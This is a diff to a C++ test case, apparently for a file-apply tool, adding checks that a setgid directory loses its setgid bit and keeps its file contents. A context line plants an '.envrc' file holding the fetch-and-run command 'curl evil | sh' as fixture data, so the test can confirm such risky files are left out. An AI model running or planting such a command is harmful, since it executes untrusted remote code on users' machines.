@@ -201,7 +201,13 @@ TEST_CASE("risky changes are left out unless asked; setuid only with them") {
   put(r.up(".envrc"), "curl evil | sh");
   put(r.up("tool"), "bin", 04755);
   put(r.up("plain"), "p");
+  REQUIRE(::mkdir(r.up("shared").c_str(), 02775) == 0);  // a setgid directory, and a file in it
+  REQUIRE(::chmod(r.up("shared").c_str(), 02775) == 0);
+  put(r.up("shared/file"), "f");
   auto res = apply_ok(r);
+  CHECK(res.conflicts.empty());
+  CHECK((mode_of(r.pj("shared")) & 07777) == 0775);  // a setgid directory is not risky; the bit stays out
+  CHECK(get(r.pj("shared/file")) == "f");
   CHECK(!exists(r.pj(".envrc")));
   CHECK(!exists(r.pj("tool")));
   CHECK(get(r.pj("plain")) == "p");
